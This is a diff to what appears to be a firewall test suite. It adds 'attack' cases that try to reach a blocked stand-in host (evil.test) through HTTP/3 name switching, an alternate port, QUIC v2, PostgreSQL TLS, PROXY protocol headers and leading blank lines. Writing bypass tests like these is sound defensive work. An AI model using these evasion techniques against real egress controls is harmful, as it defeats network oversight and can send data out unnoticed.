@@ -181,6 +181,35 @@ const NAMES: &[Attack] = &[
     )
     .needs(&["python:aioquic"]),
     attack(
+        "quic-second",
+        "",
+        "HTTP/3 for another name after the allowed one, from the same port",
+        r#""$PY" "$W/http3_client.py" ok.test ok.test "$MARK.evil.test""#,
+    )
+    .needs(&["python:aioquic"]),
+    attack(
+        "quic-port",
+        "",
+        "HTTP/3 for another name at another port",
+        r#""$PY" "$W/http3_client.py" ok.test:8443 "$MARK.evil.test""#,
+    )
+    .needs(&["python:aioquic"]),
+    attack(
+        "quic-v2",
+        "",
+        "HTTP/3 for another name in version 2 of QUIC",
+        r#""$PY" "$W/http3_client.py" --v2 ok.test "$MARK.evil.test""#,
+    )
+    .needs(&["python:aioquic"]),
+    attack("postgres", "", "another name in the TLS of PostgreSQL", by_program!("postgres_tls")),
+    attack(
+        "proxy-protocol",
+        "",
+        "a header of the PROXY protocol before the request",
+        by_program!("proxy_protocol"),
+    ),
+    attack("blank-lines", "", "blank lines before the request", by_program!("blank_lines")),
+    attack(
         "no-sni",
         "github/gh-aw-firewall/issues/137",
         "TLS without a server name",
